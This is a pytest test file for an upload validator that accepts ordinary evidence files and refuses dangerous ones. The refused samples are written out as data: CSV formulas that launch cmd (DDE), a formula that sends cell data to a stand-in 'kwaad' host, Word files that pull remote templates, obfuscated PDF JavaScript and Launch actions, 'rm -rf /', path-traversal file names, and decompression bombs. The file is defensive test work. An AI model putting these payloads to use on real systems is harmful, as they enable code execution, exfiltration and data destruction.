"""Files with a response: what is not taken, whatever it is called, and what is."""

from __future__ import annotations

import io
import zipfile
import zlib
from collections.abc import Callable, Mapping

import pytest
import xlsxwriter

from providers.refusal import Refused
from tariffs.procedure.files import LARGEST, MOST_FILES, Sent, objection_to, require_acceptable

PDF = b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n%%EOF"
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"
JPG = b"\xff\xd8\xff\xe0\x00\x10JFIF"
EXE = b"MZ\x90\x00\x03\x00\x00\x00"
OLE = bytes.fromhex("D0CF11E0A1B11AE1") + b"\x00" * 600
WORD = {"[Content_Types].xml": b"<Types/>", "_rels/.rels": b"<r/>", "word/document.xml": b"<document/>"}
LINKS = "word/_rels/settings.xml.rels"
TYPES = "[Content_Types].xml"
BOOK = {TYPES: b"<Types/>", "xl/workbook.xml": b"<workbook/>"}
BOOK_LINKS = "xl/_rels/workbook.xml.rels"


def packed(parts: Mapping[str, bytes]) -> bytes:
    """Return an archive of these parts."""
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return kept.getvalue()


def workbook() -> bytes:
    kept = io.BytesIO()
    book = xlsxwriter.Workbook(kept)
    book.add_worksheet().write(0, 0, "=1+1")
    book.close()
    return kept.getvalue()


def with_part(content: bytes, name: str, part: bytes) -> bytes:
    """Return an archive with one more part."""
    kept = io.BytesIO(content)
    with zipfile.ZipFile(kept, "a") as archive:
        archive.writestr(name, part)
    return kept.getvalue()


def with_objects(inside: bytes, keys: bytes = b"/Filter /FlateDecode", name: bytes = b"/ObjStm") -> bytes:
    """Return a PDF that keeps these objects packed, as Word does."""
    packed = zlib.compress(b"4 0 " + inside) if b"Flate" in keys or b"#" in keys else inside.hex().encode()
    return b"%%PDF-1.7\n1 0 obj << /Type %s /N 1 /First 4 /Length (a\\) >>) %s >>\nstream\n%s\nendstream\nendobj\n%%%%EOF" % (
        name, keys, packed
    )  # fmt: skip


def link(kind: str, target: str) -> bytes:
    """Return what says that a part of a document needs something outside."""
    return f'<r><Relationship Type="http://x/{kind}" Target="{target}" TargetMode="External"/></r>'.encode()


def inside(kind: str, target: str) -> bytes:
    """Return what says that a part of a document needs another part."""
    return link(kind, target).replace(b' TargetMode="External"', b"")


def declared(part: str, kind: str) -> bytes:
    """Return what an archive says that one of its parts is."""
    return f'<Types><Override PartName="{part}" ContentType="application/x.{kind}"/></Types>'.encode()


def fields(*pieces: str) -> bytes:
    """Return a document with fields; ``{`` begins one, and each piece of text is a run of its own."""
    begin, text = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>', "<w:r><w:instrText>{}</w:instrText></w:r>"
    runs = "".join(begin if piece == "{" else text.format(piece) for piece in pieces)
    return f'<w:document xmlns:w="http://w"><w:p>{runs}</w:p></w:document>'.encode()


TAKEN = {
    "jaarrekening 2024.pdf": PDF,
    "SCAN.PDF": PDF,
    "uit Word.pdf": with_objects(b"<< /Type /Catalog /OpenAction [3 0 R /FitH null] /Lang (nl) >>"),
    "link.pdf": PDF + b"<< /S /URI /URI (https://www.nza.nl/) >>",
    "link naar uitleg.pdf": PDF + b"<</S/URI/URI (https://x.example/docs/Web/JavaScript)>> <</URI (http://x/Launch)>>",
    "foto.png": PNG,
    "foto.jpg": JPG,
    "foto.jpeg": JPG,
    "grootboek.xlsx": workbook(),
    "brief.docx": packed(WORD),
    "sjabloon.docx": packed({**WORD, LINKS: link("attachedTemplate", "file:///C:\\Users\\jan\\Brief.dotx")}),
    "link.docx": packed({**WORD, LINKS: link("hyperlink", "https://www.nza.nl/")}),
    "inhoud.docx": packed(
        {**WORD, "word/document.xml": fields("{", 'TOC \\o "1-3"', "{", ' HYPERLINK "http://x/LINK dde"')}
    ),
    "uitdraai.csv": "rekening;bedrag\r\n4200;€ 1.234,50\r\n".encode(),
    "streepjes.csv": b"nr|bedrag|wat\n1|-5|Let op! Niet geboekt\n2|-|- import (zie bijlage)\n",
    "oud.csv": "rekening;bedrag\r\n4200;€ 1.234,50\r\n".encode("cp1252"),
    "Schermafbeelding 2025-03-01 om 12.00.00\u202fPM.png": PNG,
    "Bewijs “kopie” (é).pdf": PDF,
}
#: What is large is made when it is its turn.
REFUSED: dict[str, tuple[bytes | Callable[[], bytes], str]] = {
    "niets.pdf": (b"", "leeg"),
    "groot.pdf": (PDF + b"\0" * LARGEST, "te groot"),
    "programma.exe": (EXE, "dit soort bestand"),
    "jaarrekening.pdf.exe": (PDF, "dit soort bestand"),
    "jaarrekening": (PDF, "dit soort bestand"),
    ".pdf": (PDF, "dit soort bestand"),
    "bladzijde.html": (b"<html><script>alert(1)</script>", "dit soort bestand"),
    "beeld.svg": (b"<svg onload='alert(1)'/>", "dit soort bestand"),
    "makro.xlsm": (workbook(), "dit soort bestand"),
    "makro.docm": (packed(WORD), "dit soort bestand"),
    "oud.doc": (OLE, "dit soort bestand"),
    "programma.pdf": (EXE, "de inhoud is geen pdf"),
    "bladzijde.pdf": (b"<html>%PDF-1.7", "de inhoud is geen pdf"),
    "beeld.png": (JPG, "de inhoud is geen png"),
    "beeld.jpg": (PNG, "de inhoud is geen jpg"),
    "oud.docx": (OLE, "de inhoud is geen docx"),
    "blad.xlsx": (packed(WORD), "Word"),
    "brief.docx": (workbook(), "geen Word-document"),
    "halve.docx": (packed(WORD)[:-30], "geen Word-document"),
    "met makro.docx": (packed({**WORD, "word/vbaProject.bin": b"x"}), "macro"),
    "zegt makro.docx": (
        packed({**WORD, "[Content_Types].xml": b"<T ContentType='application/vnd.ms-word.document.macroEnabled'/>"}),
        "macro",
    ),
    "met programma.docx": (packed({**WORD, "word/embeddings/oleObject1.bin": EXE}), "andere bestanden"),
    "eruit.docx": (packed({**WORD, "../../etc/x.xml": b"x"}), "andere bestanden"),
    "bom.docx": (lambda: packed({**WORD, "word/media/a.xml": b"0" * 160_000_000}), "andere bestanden"),
    "met makro.xlsx": (with_part(workbook(), "xl/vbaProject.bin", b"x"), "macro"),
    "met koppeling.xlsx": (with_part(workbook(), "xl/externalLinks/externalLink1.xml", b"<x/>"), "andere bestanden"),
    "script.pdf": (PDF + b"<< /S /JavaScript /JS (app.alert) >>", "staat een programma"),
    "start.pdf": (PDF + b"<< /S /Launch /F (cmd.exe) >>", "staat een programma"),
    "gespeld.pdf": (PDF + b"<< /S /J#61vaScr#69pt /JS (app.alert) >>", "staat een programma"),
    "ingepakt.pdf": (with_objects(b"<< /S /JavaScript /JS (app.alert) >>"), "staat een programma"),
    "ingepakt en gespeld.pdf": (with_objects(b"<< /S /L#61unch >>", b"/Filter /Fl#61teDecode"), "staat een programma"),
    "zonder soort.pdf": (with_objects(b"<< /S /Launch >>", name=b"/Iets"), "ongewoon samengesteld"),
    "anders ingepakt.pdf": (with_objects(b"<< /S /Launch >>", b"/Filter /ASCIIHexDecode"), "ongewoon samengesteld"),
    "niet ingepakt.pdf": (with_objects(b"<< >>", b""), "ongewoon samengesteld"),
    "halve reeks.pdf": (
        with_objects(b"<< /S /Launch >>", b"/Filter /FlateDecode /X <4<<>") + b"\n>>",
        "ongewoon samengesteld",
    ),
    "eind elders.pdf": (with_objects(b"<< /S /Launch >>").replace(b" obj ", b" obj [] "), "ongewoon samengesteld"),
    "schijnlink.pdf": (PDF + b"<</S /URI#20#28a/JavaScript /X (b)>>", "staat een programma"),
    "link ingepakt.pdf": (with_objects(b"/URI (/JavaScript)"), "staat een programma"),
    "in drie dimensies.pdf": (PDF + b"<< /Type /3D /OnInstantiate 5 0 R >>", "staat een programma"),
    "twee keer.pdf": (with_objects(b"<< >>", b"/Filter [/ASCII85Decode /FlateDecode]"), "ongewoon samengesteld"),
    "voorspeld.pdf": (
        with_objects(b"", b"/Filter /FlateDecode /DecodeParms <</Predictor 12>>"),
        "ongewoon samengesteld",
    ),
    "elders.pdf": (with_objects(b"", b"/Filter 7 0 R /Old /Flate"), "ongewoon samengesteld"),
    "bom.pdf": (lambda: with_objects(b" " * 21_000_000), "ongewoon samengesteld"),
    "half.pdf": (with_objects(b"<< >>")[:-35], "ongewoon samengesteld"),
    "bijlage.pdf": (PDF + b"<< /Names << /EmbeddedFiles 3 0 R >> >>", "andere bestanden"),
    "bijlage ingepakt.pdf": (with_objects(b"<< /Type /EmbeddedFile >>"), "andere bestanden"),
    "formulier.pdf": (with_objects(b"<< /AcroForm << /XFA 3 0 R >> >>"), "formulier"),
    "opent.pdf": (PDF + b"<< /S /GoToR /F (x.pdf) >>", "opent andere bestanden"),
    "op slot.pdf": (PDF + b"trailer << /Encrypt 5 0 R >>", "beveiligd"),
    "sjabloon.docx": (packed({**WORD, LINKS: link("attachedTemplate", "https://kwaad.example/a.dotm")}), "van buiten"),
    "gedeeld sjabloon.docx": (packed({**WORD, LINKS: link("attachedTemplate", "file://kwaad/a.dotm")}), "van buiten"),
    "beeld.docx": (packed({**WORD, LINKS: link("image", "https://kwaad.example/a.png")}), "van buiten"),
    "in utf-16.docx": (packed({**WORD, LINKS: link("frame", "http://kwaad").decode().encode("utf-16")}), "van buiten"),
    "beeld.xlsx": (with_part(workbook(), "xl/drawings/_rels/a.xml.rels", link("image", "http://kwaad")), "van buiten"),
    "stuk.docx": (packed({**WORD, "docProps/_rels/a.rels": link("aFChunk", "a.xml")}), "andere bestanden"),
    "dde.docx": (packed({**WORD, "word/footer1.xml": fields("{", "DD", "EAU", "TO c:\\cmd.exe")}), "een veld"),
    "dde eenvoudig.docx": (packed({**WORD, "word/document.xml": b'<p><fldSimple instr=" dde cmd"/></p>'}), "een veld"),
    "dde gespeld.docx": (packed({**WORD, "word/document.xml": fields("{", "{", "QUOTE 68 68 69")}), "een veld"),
    "dde met iets erin.docx": (
        packed({**WORD, "word/document.xml": b"<p><fldSimple/><instrText>DD<x/>EAUTO</instrText></p>"}),
        "een veld",
    ),
    "heet beeld.docx": (
        packed({**WORD, TYPES: declared("/word/image1.jpg", "wordprocessingml.document.main+xml")}),
        "andere bestanden",
    ),
    "heet beeld.xlsx": (packed({**BOOK, TYPES: declared("/xl/a.jpg", "worksheet+xml")}), "andere bestanden"),
    "makro elders.xlsx": (packed({**BOOK, BOOK_LINKS: inside("xlMacrosheet", "other/a.xml")}), "macro"),
    "koppeling elders.xlsx": (packed({**BOOK, BOOK_LINKS: inside("externalLink", "other/a.xml")}), "van buiten"),
    "bron elders.xlsx": (packed({**BOOK, BOOK_LINKS: inside("connections", "other/a.xml")}), "van buiten"),
    "object elders.xlsx": (packed({**BOOK, BOOK_LINKS: inside("oleObject", "other/a.xml")}), "andere bestanden"),
    "veel links.docx": (packed({**WORD, LINKS: b"<r>" + b"<x/>" * 260_000 + b"</r>"}), "te veel"),
    "veel in een.docx": (
        packed({**WORD, "word/document.xml": b"<p %s/>" % b" ".join(b'a%d="1"' % n for n in range(100_000))}),
        "te veel",
    ),
    "veel namen.docx": (
        packed({**WORD, "word/document.xml": b"<p>%s</p>" % b"".join(b"<p%d/>" % n for n in range(6_000))}),
        "te veel",
    ),
    "haalt.docx": (packed({**WORD, "word/document.xml": fields("{", "INCLUDETEXT http://x")}), "een veld"),
    "entiteit.docx": (
        packed({**WORD, "word/document.xml": b'<!DOCTYPE p [<!ENTITY a "b">]><p>&a;</p>'}),
        "geen Word-document",
    ),
    "kapot.docx": (packed({**WORD, "word/document.xml": b"<p><p>"}), "geen Word-document"),
    "diep.docx": (packed({**WORD, "word/document.xml": b"<p>" * 2_000}), "te veel"),
    "veel.docx": (lambda: packed({**WORD, "word/document.xml": b"<p>" + b" " * 31_000_000 + b"</p>"}), "te veel"),
    "dde.csv": (b"a;b\r\n1;=cmd|'/c calc'!A1\r\n", "een formule"),
    "dde verderop.csv": (b"a;b\r\n1;x,= ,\"=cmd;z\r2|3\t\" -cmd,=|'/c calc;d'!A1\r\n", "een formule"),
    "dde in som.csv": (b"a;b\r\n1;\"=SUM(1;2)+cmd|'/c calc'!A1\"\r\n", "een formule"),
    "dde over regels.csv": (b"a;b\r\n\"=1+\ncmd|'/c calc'!A1\"\r\n", "een formule"),
    "dde lang.csv": (b"=cmd|'" + b"x" * 300 + b"'!A1", "een formule"),
    "haalt op.csv": (b'a;b\r\n1;=1+Webservice ("http://kwaad/"&A1)\r\n', "een formule"),
    "programma.csv": (EXE, "geen tekstbestand"),
    "script.csv": (b"#!/bin/sh\nrm -rf /", "geen tekstbestand"),
    "bladzijde.csv": (b"<html>", "geen tekstbestand"),
    "nul.csv": (b"a;b\0c", "geen tekstbestand"),
    "nul\0.pdf": (PDF, "de naam"),
    "../../geheim.pdf": (PDF, "de naam"),
    "map\\geheim.pdf": (PDF, "de naam"),
    "omgekeerd\u202efdp.pdf": (PDF, "de naam"),
    "n" * 300 + ".pdf": (PDF, "de naam"),
    "": (PDF, "de naam"),
}


@pytest.mark.parametrize("name", TAKEN)
def test_an_ordinary_piece_of_evidence_is_taken(name: str) -> None:
    assert objection_to(Sent(name, TAKEN[name])) == ""


def test_a_text_in_which_a_formula_seems_to_begin_everywhere_is_looked_through_once() -> None:
    """One that is looked through from each comma anew takes hours: this test then does not end."""
    assert objection_to(Sent("uitdraai.csv", b'b",=' * 500_000)) == ""


@pytest.mark.parametrize("name", REFUSED, ids=lambda name: ascii(name)[:40])
def test_what_could_harm_the_reader_or_says_nothing_is_refused_with_what_to_do(name: str) -> None:
    content, why = REFUSED[name]
    assert why in objection_to(Sent(name, content() if callable(content) else content))


def test_every_file_that_is_not_taken_is_named_and_too_many_are_refused() -> None:
    with pytest.raises(Refused) as refused:
        require_acceptable([Sent("a.exe", EXE), Sent("b.pdf", PDF), Sent("c\0.pdf", PDF)])
    assert [line.partition(":")[0] for line in str(refused.value).splitlines()] == ["a.exe", "c.pdf"]
    with pytest.raises(Refused, match=r"ten hoogste 10 bestanden tegelijk\. U koos er 11"):
        require_acceptable([Sent(f"{number}.pdf", PDF) for number in range(MOST_FILES + 1)])


def test_files_that_come_in_together_are_looked_into_within_one_bound() -> None:
    """Each is taken by itself; ten of them would take ten times what one may."""
    heavy = with_objects(b" " * 15_000_000)
    assert objection_to(Sent("a.pdf", heavy)) == ""
    with pytest.raises(Refused) as refused:
        require_acceptable([Sent(f"{number}.pdf", heavy) for number in range(MOST_FILES)])
    found = str(refused.value).splitlines()
    assert ["Stuur ze apart" in line for line in found] == [True] * 7, "the first three are not to blame"
